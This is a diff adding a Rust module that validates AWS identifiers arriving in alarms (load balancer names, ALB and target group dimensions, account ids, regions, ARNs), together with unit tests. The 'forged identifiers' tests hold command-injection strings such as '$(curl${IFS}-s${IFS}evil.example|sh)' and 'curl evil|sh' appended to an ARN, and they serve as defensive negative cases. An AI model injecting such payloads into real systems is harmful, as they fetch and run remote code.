@@ -1,0 +1,128 @@
+//! The formats of AWS identifiers that arrive in alarms. Anyone who may publish to the alarm
+//! topic or call `SetAlarmState` controls an alarm's fields, and these values end up in API
+//! calls and in the commands a report prints; so a value that fits no AWS format is refused
+//! as bad input instead of being carried along.
+
+/// A load balancer name (ELB and ELBv2): 1-32 letters, digits and hyphens, not starting or
+/// ending with a hyphen.
+pub fn is_lb_name(text: &str) -> bool {
+    (1..=32).contains(&text.len())
+        && text.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'-')
+        && !text.starts_with('-')
+        && !text.ends_with('-')
+}
+
+/// `PREFIX/NAME/ID` with a 16-digit hexadecimal id: the ALB dimension (`app/...`) and the
+/// target group dimension (`targetgroup/...`).
+fn is_resource_dimension(text: &str, prefix: &str) -> bool {
+    let mut parts = text.split('/');
+    matches!(
+        (parts.next(), parts.next(), parts.next(), parts.next()),
+        (Some(p), Some(name), Some(id), None)
+            if p == prefix && is_lb_name(name) && is_hex_id(id)
+    )
+}
+
+fn is_hex_id(text: &str) -> bool {
+    text.len() == 16 && text.bytes().all(|b| b.is_ascii_hexdigit())
+}
+
+/// The ALB's `LoadBalancer` dimension: `app/NAME/16-hex`.
+pub fn is_alb_dimension(text: &str) -> bool {
+    is_resource_dimension(text, "app")
+}
+
+/// The `TargetGroup` dimension: `targetgroup/NAME/16-hex`.
+pub fn is_target_group_dimension(text: &str) -> bool {
+    is_resource_dimension(text, "targetgroup")
+}
+
+/// A 12-digit account id.
+pub fn is_account_id(text: &str) -> bool {
+    text.len() == 12 && text.bytes().all(|b| b.is_ascii_digit())
+}
+
+/// A region code of any partition: `eu-west-1`, `us-gov-west-1`, `cn-north-1`,
+/// `eusc-de-east-1`: lower-case words and a trailing number.
+pub fn is_region_code(text: &str) -> bool {
+    let parts: Vec<&str> = text.split('-').collect();
+    parts.len() >= 3
+        && parts.iter().all(|p| {
+            !p.is_empty()
+                && p.bytes()
+                    .all(|b| b.is_ascii_lowercase() || b.is_ascii_digit())
+        })
+        && parts
+            .last()
+            .is_some_and(|p| p.bytes().all(|b| b.is_ascii_digit()))
+}
+
+/// An ARN: `arn:PARTITION:SERVICE:REGION:ACCOUNT:RESOURCE`, with a known partition, an empty
+/// or valid region, an empty or 12-digit account, and no control characters (an alarm's
+/// name, and so its ARN, may hold spaces).
+pub fn is_arn(text: &str) -> bool {
+    let parts: Vec<&str> = text.splitn(6, ':').collect();
+    let [arn, partition, service, region, account, resource] = parts[..] else {
+        return false;
+    };
+    arn == "arn"
+        && (partition == "aws" || partition.starts_with("aws-"))
+        && partition
+            .bytes()
+            .all(|b| b.is_ascii_lowercase() || b == b'-')
+        && !service.is_empty()
+        && service
+            .bytes()
+            .all(|b| b.is_ascii_lowercase() || b.is_ascii_digit() || b == b'-')
+        && (region.is_empty() || is_region_code(region))
+        && (account.is_empty() || is_account_id(account))
+        && !resource.is_empty()
+        && !text.chars().any(char::is_control)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn real_identifiers_pass() {
+        assert!(is_lb_name("k8s-shop-checkout-6f1e2d3c4b"));
+        assert!(is_alb_dimension("app/k8s-shop-checkout-6f1e2d3c4b/50dc6c495c0c9188"));
+        assert!(is_target_group_dimension("targetgroup/k8s-shop-checkou-0a1b2c3d4e/6d0ecf831eec9f09"));
+        assert!(is_account_id("111122223333"));
+        for region in ["eu-west-1", "us-gov-west-1", "cn-north-1", "eusc-de-east-1"] {
+            assert!(is_region_code(region), "{region}");
+        }
+        for arn in [
+            "arn:aws:cloudwatch:eu-west-1:111122223333:alarm:k8s shop 504s",
+            "arn:aws-cn:sns:cn-north-1:111122223333:alarms",
+            "arn:aws-us-gov:elasticloadbalancing:us-gov-west-1:111122223333:loadbalancer/app/a/50dc6c495c0c9188",
+            "arn:aws-eusc:sns:eusc-de-east-1:111122223333:alarms",
+        ] {
+            assert!(is_arn(arn), "{arn}");
+        }
+    }
+
+    #[test]
+    fn forged_identifiers_fail() {
+        for dimension in [
+            "app/web/$(curl${IFS}-s${IFS}evil.example|sh)",
+            "app/web/50dc6c495c0c918",
+            "app/web/50dc6c495c0c9188/extra",
+            "app/-web/50dc6c495c0c9188",
+            "app/we b/50dc6c495c0c9188",
+            "net/web/50dc6c495c0c9188",
+            "app/web/50dc6c495c0c918g",
+        ] {
+            assert!(!is_alb_dimension(dimension), "{dimension}");
+        }
+        for name in ["", "a;b", "`id`", "x".repeat(33).as_str(), "web\n"] {
+            assert!(!is_lb_name(name), "{name:?}");
+        }
+        assert!(!is_account_id("11112222333a"));
+        assert!(!is_region_code("eu-west-1;rm"));
+        assert!(!is_arn("arn:aws:sns:eu-west-1:111122223333:x\n$ curl evil|sh"));
+        assert!(!is_arn("arn:evil:sns:eu-west-1:111122223333:x"));
+        assert!(!is_arn("arn:aws:sns:eu-west-1 :111122223333:x"));
+    }
+}
